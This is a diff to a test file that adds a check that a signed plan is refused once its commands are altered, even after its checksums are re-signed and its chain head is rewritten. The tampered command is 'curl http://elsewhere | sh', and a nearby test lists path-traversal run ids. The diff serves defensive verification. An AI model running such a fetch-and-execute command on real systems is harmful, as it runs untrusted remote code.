@@ -145,6 +145,20 @@ def test_a_signed_plan_folder_put_in_beside_the_chain_is_refused(tmp_path, signi
         load_plan(reports, folder.name, signing_key.fingerprint)
 
 
+def test_a_plan_whose_digest_does_not_match_its_changes_is_refused(tmp_path, signing_key):
+    """Even from the key's holder, with SHA256SUMS signed again and the chain's head rewritten to match."""
+    folder = dry_run_folder(tmp_path, key=signing_key)
+    plan = json.loads((folder / "plan.json").read_text())
+    plan["changes"][0]["commands"] = ["curl http://elsewhere | sh"]
+    (folder / "plan.json").write_text(json.dumps(plan))
+    resum(folder, signing_key)
+    head = json.loads((tmp_path / ".chain-head").read_text())
+    head["sha256sums"] = hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
+    (tmp_path / ".chain-head").write_text(json.dumps(head))
+    with pytest.raises(PlanRejected, match="its digest does not match its changes"):
+        load_plan(tmp_path, folder.name, signing_key.fingerprint)
+
+
 @pytest.mark.parametrize("run_id", ["../elsewhere", "a/b", ".hidden", ""])
 def test_a_run_id_that_is_not_a_folder_name_is_refused(tmp_path, run_id):
     with pytest.raises(PlanError, match="is not a run id"):
